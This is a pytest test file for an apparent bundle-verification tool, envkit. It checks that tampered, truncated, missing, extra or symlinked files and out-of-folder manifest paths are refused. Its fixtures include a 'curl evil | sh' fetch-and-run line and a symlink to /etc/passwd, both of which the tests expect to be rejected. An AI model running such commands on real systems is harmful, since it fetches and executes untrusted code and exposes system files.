"""A bundle is checked against its manifest before anything in it is used: every way a copy can
go wrong (a file changed, cut short, missing, added, a link, no manifest at all, a manifest that
names a path outside) is refused by name, and a whole copy passes."""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path

import pytest

from envkit.bundle.manifest import MANIFEST, check_bundle, write_manifest
from envkit.errors import EnvkitError


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    folder = tmp_path / "bundle"
    (folder / "wheels").mkdir(parents=True)
    (folder / "image.tar").write_bytes(b"layers" * 1000)
    (folder / "wheels" / "tqdm-4.67.1-py3-none-any.whl").write_bytes(b"wheel")
    (folder / "envkit.lock").write_text("schema 1\n")
    (folder / "sbom.cdx.json").write_text("{}\n")
    _provenance(folder, hashlib.sha256(b"schema 1\n").hexdigest())
    write_manifest(folder, {"image": "envkit/demo:latest"})
    return folder


def _provenance(folder: Path, lock_sha256: str) -> None:
    lock = {"lock": {"sha256": lock_sha256}}
    document = {"buildDefinition": {"externalParameters": lock}}
    (folder / "provenance.json").write_text(json.dumps(document))


def _refused(folder: Path) -> str:
    with pytest.raises(EnvkitError) as refused:
        check_bundle(folder)
    return f"{refused.value} {refused.value.fix}"


def test_a_whole_copy_passes_with_every_file_listed(bundle: Path, tmp_path: Path) -> None:
    copy = tmp_path / "copied"
    shutil.copytree(bundle, copy)
    assert set(check_bundle(copy)) == {
        "image.tar",
        "wheels/tqdm-4.67.1-py3-none-any.whl",
        "envkit.lock",
        "sbom.cdx.json",
        "provenance.json",
    }


def test_a_bundle_put_together_from_two_builds_is_refused(bundle: Path) -> None:
    """Each file matches a manifest made anew, but the provenance names another lock."""
    _provenance(bundle, "ab" * 32)
    write_manifest(bundle, {"image": "envkit/demo:latest"})
    assert f"provenance.json names lock sha256 {'ab' * 32}" in _refused(bundle)
    (bundle / "sbom.cdx.json").unlink()
    write_manifest(bundle, {"image": "envkit/demo:latest"})
    assert "sbom.cdx.json: missing" in _refused(bundle)


def test_each_way_a_copy_goes_wrong_is_named(bundle: Path) -> None:
    (bundle / "image.tar").write_bytes(b"layers" * 999)  # cut short
    (bundle / "envkit.lock").write_text("schema 2\n")  # same size, other bytes
    (bundle / "wheels" / "tqdm-4.67.1-py3-none-any.whl").unlink()
    (bundle / "extra.sh").write_text("curl evil | sh\n")
    said = _refused(bundle)
    assert "image.tar: 5994 bytes, the manifest says 6000: cut short (a partial copy)" in said
    assert "envkit.lock: changed (its sha256 is not the manifest's)" in said
    assert "wheels/tqdm-4.67.1-py3-none-any.whl: missing" in said
    assert "extra.sh: not in the manifest" in said
    assert "nothing was loaded or run" in said


def test_no_manifest_is_a_partial_bundle(bundle: Path) -> None:
    (bundle / MANIFEST).unlink()
    assert "is a partial bundle: it has no MANIFEST.json" in _refused(bundle)


def test_a_link_or_a_manifest_path_outside_the_folder_is_refused(bundle: Path) -> None:
    (bundle / "wheels" / "passwd").symlink_to("/etc/passwd")
    assert "wheels/passwd is a link or a special file" in _refused(bundle)
    (bundle / "wheels" / "passwd").unlink()
    document = json.loads((bundle / MANIFEST).read_text())
    document["files"].append({"path": "../outside", "size": 1, "sha256": "0" * 64})
    (bundle / MANIFEST).write_text(json.dumps(document))
    assert "'../outside' leaves the bundle's folder" in _refused(bundle)
    (bundle / MANIFEST).write_text("{not json")
    assert "is not an envkit bundle's manifest" in _refused(bundle)


@pytest.mark.skipif(shutil.which("cosign") is None, reason="cosign: `make cosign` installs it")
def test_a_signed_manifest_binds_every_file_to_the_teams_key(
    bundle: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The real cosign, offline: signed by the team's key passes; another key, an unsigned
    bundle, or a manifest rewritten after signing (to hide a swapped file) is refused."""
    import subprocess

    from envkit.supply.cosign import sign_blob

    monkeypatch.setenv("COSIGN_PASSWORD", "bundle-test")
    for who in ("team", "other"):
        (tmp_path / who).mkdir()
        subprocess.run(
            ["cosign", "generate-key-pair"], cwd=tmp_path / who, check=True, capture_output=True
        )
    team = str(tmp_path / "team" / "cosign.pub")
    assert "signing.verify" in _refused_with(
        bundle, team
    ) and "carries no signature" in _refused_with(bundle, team)
    sign_blob(bundle / MANIFEST, tmp_path / "team" / "cosign.key", "bundle-test")
    assert set(check_bundle(bundle, team)) >= {"image.tar"}
    check_bundle(bundle)  # no signing.verify here: passes, saying the signature went unchecked
    assert "signed, but nothing here checks the signature" in capsys.readouterr().err
    assert "not signed by the key" in _refused_with(bundle, str(tmp_path / "other" / "cosign.pub"))
    (bundle / "image.tar").write_bytes(b"swapped")
    write_manifest(bundle, {"image": "envkit/demo:latest"})  # the manifest made to match
    assert "not signed by the key" in _refused_with(bundle, team)


def _refused_with(folder: Path, key: str) -> str:
    with pytest.raises(EnvkitError) as refused:
        check_bundle(folder, key)
    return f"{refused.value} {refused.value.fix}"


def test_a_bundle_without_its_tools_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    from tests.helpers import copy_example, envkit

    config = copy_example("debian-bookworm-cpu", tmp_path)
    done = envkit("bundle", "-o", "out", cwd=config.parent, env={"PATH": str(tmp_path / "none")})
    assert done.returncode == 2, done.stdout + done.stderr
    assert "ch-convert and mksquashfs not installed" in done.stderr, done.stderr
    assert not (config.parent / "out").exists(), "nothing written for a refusal"
    # without rootfs.sqfs, only the SIF's siftool is asked for; a SIF without its SquashFS is
    # refused as a contradiction, before any tool is looked for
    done = envkit("bundle", "--no-squashfs", "--sif", cwd=config.parent, env={"PATH": "/none"})
    assert done.returncode == 2 and "--sif wraps the SquashFS" in done.stderr, done.stderr
    # (no engine either, whatever this machine has built: the step after the tools is the lock)
    bare = {"PATH": str(tmp_path / "none"), "DOCKER_HOST": "unix:///nonexistent.sock"}
    done = envkit("bundle", "--no-squashfs", "-o", "out", cwd=config.parent, env=bare)
    assert done.returncode != 0 and "ch-convert" not in done.stderr, done.stderr
    assert not (config.parent / "out").exists(), "nothing written for a refusal"
